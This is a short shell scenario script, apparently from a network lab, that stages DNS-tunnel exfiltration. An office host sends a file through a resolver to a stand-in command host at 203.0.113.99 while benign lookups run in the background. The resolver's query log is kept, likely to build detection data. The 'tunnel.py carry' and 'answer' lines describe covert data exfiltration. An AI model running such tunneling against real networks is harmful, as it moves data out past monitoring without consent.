# office carries a file out through the resolver: long labels under telemetry-sync.example,
# answered with TXT records by 203.0.113.99.
scenario() {
  lan_host office 50; lan_host resolver 53
  outside_host internet 53; outside_host command 99
  internet_on
  resolver_on
  on_background command python3 /lab/lab/tunnel.py answer 203.0.113.99
  on office bash -c 'python3 /lab/lab/internet-names.py >/tmp/names'
  sleep 0.5
  record
  on office bash -c 'for n in 1 2 3 4; do shuf -n 8 /tmp/names >/tmp/batch; dig @198.51.100.53 -f /tmp/batch; sleep 5; done' >/dev/null &
  local honest=$!
  on office python3 /lab/lab/tunnel.py carry 198.51.100.53
  wait $honest
  stop_recording
  keep resolver /var/log/unbound.log resolver.query.log
}
